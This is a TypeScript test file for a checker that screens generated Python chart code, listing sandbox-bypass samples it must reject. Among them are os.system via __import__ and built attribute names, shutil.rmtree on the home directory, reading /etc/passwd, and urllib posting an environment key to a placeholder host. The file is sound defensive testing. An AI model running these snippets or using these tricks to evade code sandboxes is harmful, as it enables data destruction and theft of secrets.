import assert from 'node:assert/strict';
import { tokenize, unsafeConstructs } from '../../../../src/autotrain/viz/codeSafety';

const HONEST = [
  'import numpy as np',
  'import pandas as pd',
  'import plotly.express as px',
  'from matplotlib import pyplot as plt',
  '',
  'def plot(data: pd.DataFrame):',
  '    subset = data[["a", "b"]].dropna()  # no open() here',
  '    subset["when"] = pd.to_datetime(subset["a"], errors="coerce")',
  '    fig = px.scatter(subset, x="a", y=np.log1p(subset["b"]), title=f"Why does os.system(\'rm -rf /\') appear? {len(subset)} rows")',
  '    fig.update_layout(title="""eval(open(\'x\').read())""")',
  '    return fig',
].join('\n');

/** Each bypass found by probing the previous denylist check, plus the forbidden constructs the allowlist names. */
const BYPASSES: Record<string, string> = {
  'os.popen': 'import os\nos.popen("id").read()',
  'open for writing': 'open("/some/path", "w").write("x")',
  'shutil.rmtree on pathlib': 'import shutil, pathlib\nshutil.rmtree(pathlib.Path.home())',
  'from os import system as alias': 'from os import system as run_cmd\nrun_cmd("id")',
  'os.remove': 'import os\nos.remove("/tmp/x")',
  'urllib posting the environment': 'import urllib.request, os\nurllib.request.urlopen("http://x", data=os.environ["KEY"].encode())',
  'getattr with a built name': 'import os\ngetattr(os, "sys" + "tem")("id")',
  'exec': 'exec("print(1)")',
  'eval': 'eval("1 + 1")',
  '__import__': '__import__("os").system("id")',
  'subprocess': 'import subprocess\nsubprocess.run(["id"])',
  'socket': 'import socket\nsocket.create_connection(("x", 80))',
  'dunder attribute walk': 'data.__class__.__mro__[-1].__subclasses__()',
  'os reached through an allowed library': 'import pandas as pd\npd.io.common.os.system("id")',
  'a write through pandas': 'data.to_csv("/tmp/stolen.csv")',
  'a read through pandas': 'import pandas as pd\npd.read_csv("/etc/passwd")',
  'a call hidden in an f-string': 'title = f"{__import__(\'os\').system(\'id\')}"',
  'a relative import': 'from . import secrets',
  'an import split over a line continuation': 'import \\\n  os',
};

describe('autotrain code safety', () => {
  it('accepts a chart program whose strings and comments mention forbidden names', () => {
    assert.deepEqual(unsafeConstructs(HONEST), []);
  });

  for (const [name, code] of Object.entries(BYPASSES)) {
    it(`rejects ${name}`, () => {
      const problems = unsafeConstructs(code);
      assert.ok(problems.length > 0, `${name} passed the check`);
      assert.match(problems[0], /^(line \d+ |it cannot be read)/);
    });
  }

  it('names the line and the module of a disallowed import', () => {
    assert.deepEqual(unsafeConstructs('import pandas as pd\n\nimport requests'), [
      'line 3 imports requests, which is not one of pandas, numpy, plotly, matplotlib, seaborn',
      'line 3 uses requests, which reaches beyond drawing a chart',
    ]);
  });

  it('reports code that is not Python instead of passing it', () => {
    assert.match(unsafeConstructs('title = "not closed\nplot()')[0], /cannot be read as Python \(line 1: a string is not closed\)/);
  });

  it('tokenizes prefixed, triple-quoted and escaped strings as single tokens', () => {
    const tokens = tokenize('x = rb"a\\"b" + """one\ntwo""" + \'it\\\'s\'\ny').filter((t) => t.kind !== 'newline');
    assert.deepEqual(tokens.map((t) => [t.kind, t.line]), [
      ['name', 1], ['op', 1], ['string', 1], ['op', 1], ['string', 1], ['op', 2], ['string', 2], ['name', 3],
    ]);
  });
});
